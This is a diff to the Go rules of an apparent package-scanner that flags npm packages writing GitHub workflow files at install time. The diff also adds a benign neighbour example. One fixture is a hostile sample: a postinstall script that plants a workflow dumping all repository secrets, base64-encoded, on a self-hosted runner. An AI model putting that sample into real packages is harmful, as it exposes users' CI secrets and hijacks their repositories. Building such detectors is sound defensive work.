@@ -25,14 +25,15 @@ func propagation() []Rule {
 		},
 		{
 			ID: "workflow_written", Severity: High,
-			When:   []Condition{{Triggers: unaware, Sinks: []string{b.File}, Target: Workflow}},
-			Graver: []Condition{{Sources: []string{b.Blob, b.Download}, Triggers: unaware}},
+			When:   []Condition{{Triggers: []string{b.Install}, Sinks: []string{b.File}, Target: Workflow}},
+			Graver: []Condition{{Sources: []string{b.Blob, b.Download}}},
 			Examples: []Example{
 				Package("into the user's repository", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const fs=require('fs'),path=require('path');const d=path.join(process.env.INIT_CWD,'.github','workflows');fs.mkdirSync(d,{recursive:true});fs.writeFileSync(path.join(d,'check.yml'),'on: push\\njobs:\\n  a:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo ${{ toJSON(secrets) }} | base64\\n')"}),
 				One("by an installer", "install.sh", "mkdir -p .github/workflows\ncat > .github/workflows/x.yml <<'EOF'\non: push\nEOF\n"),
 			},
 			Neighbours: []Example{
 				Package("when asked to", `"bin":"i.js"`, map[string]string{"i.js": "#!/usr/bin/env node\nrequire('fs').writeFileSync('.github/workflows/ci.yml','on: push')"}),
+				Package("by one of the commands that it offers", `"main":"i.js"`, map[string]string{"i.js": "const {Command}=require('commander');const p=new Command();p.command('init').action(()=>require('fs').writeFileSync('.github/workflows/ci.yml','on: push'));p.parse()"}),
 				Package("another file", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "require('fs').writeFileSync('.github/FUNDING.yml','custom: x')"}),
 			},
 		},
